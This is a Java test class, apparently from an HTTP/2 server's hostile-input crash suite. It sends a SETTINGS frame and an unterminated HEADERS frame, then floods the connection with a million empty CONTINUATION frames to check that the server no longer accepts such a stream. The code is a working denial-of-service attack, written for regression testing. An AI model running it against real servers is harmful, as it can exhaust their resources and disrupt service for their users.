package petrichor.testing.crash.hostile;

import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

/** A stream whose headers never end: a million empty CONTINUATION frames were accepted once. */
final class EmptyFrames implements Attack {
    private static final int FRAMES_PER_WRITE = 1_000;
    private static final int WRITES = 1_000;
    private static final byte SETTINGS = 4;
    private static final byte HEADERS = 1;
    private static final byte CONTINUATION = 9;

    @Override
    public void strike(Target target) throws Exception {
        try (Socket socket = target.connect()) {
            OutputStream out = socket.getOutputStream();
            out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
            out.write(frame(SETTINGS, 0, new byte[0]));
            out.write(frame(HEADERS, 1, new byte[] {(byte) 0x82}));
            byte[] empty = frame(CONTINUATION, 1, new byte[0]);
            ByteBuffer many = ByteBuffer.allocate(empty.length * FRAMES_PER_WRITE);
            for (int i = 0; i < FRAMES_PER_WRITE; i++) {
                many.put(empty);
            }
            for (int i = 0; i < WRITES; i++) {
                out.write(many.array());
            }
        } catch (IOException closed) {
            return; // expected
        }
    }

    private static byte[] frame(byte type, int stream, byte[] payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .put((byte) 0)
                .putShort((short) payload.length)
                .put(type)
                .put((byte) 0)
                .putInt(stream)
                .put(payload)
                .array();
    }
}
